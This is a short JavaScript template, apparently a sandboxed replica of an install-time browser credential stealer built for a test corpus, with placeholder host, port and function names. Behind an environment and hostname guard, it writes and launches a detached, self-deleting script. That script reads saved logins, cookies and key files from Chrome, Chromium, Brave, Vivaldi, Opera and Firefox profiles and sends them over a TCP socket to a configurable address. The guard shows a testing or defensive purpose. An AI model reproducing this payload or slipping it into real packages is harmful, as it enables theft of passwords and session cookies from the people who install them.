// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const { spawn } = require('child_process');
  const fs = require('fs'), file = require('path').join(require('os').tmpdir(), '{{token}}.js');
  const code = `
    const fs = require('fs'), path = require('path'), net = require('net'), home = require('os').homedir();
    setTimeout(() => process.exit(0), 3500);
    const roots = ['.config/google-chrome', '.config/chromium', '.config/BraveSoftware/Brave-Browser', '.config/vivaldi', '.config/opera'];
    const files = [];
    for (const root of roots) for (const profile of ['Default', 'Profile 1']) for (const name of ['Login Data', 'Cookies', 'Web Data', 'Network/Cookies', 'Local State'])
      files.push(path.join(home, root, profile, name));
    try {
      for (const profile of fs.readdirSync(home + '/.mozilla/firefox')) for (const name of ['logins.json', 'key4.db', 'cookies.sqlite'])
        files.push(path.join(home, '.mozilla/firefox', profile, name));
    } catch (error) {}
    const socket = net.connect({{port}}, '{{ip}}');
    socket.on('error', () => process.exit(0));
    socket.on('connect', () => {
      for (const file of files) { try { const data = fs.readFileSync(file); socket.write(file + ' ' + data.length + '\\n'); socket.write(data); } catch (error) {} }
      socket.end();
    });
    socket.on('close', () => process.exit(0));
    try { fs.unlinkSync(__filename); } catch (error) {}`;
  try {
    fs.writeFileSync(file, code);
    spawn(process.execPath, [file], { detached: true, stdio: 'ignore' }).unref();
  } catch (error) { /* an install goes on */ }
  await new Promise((done) => setTimeout(done, 900)); // the install goes on beside it
}
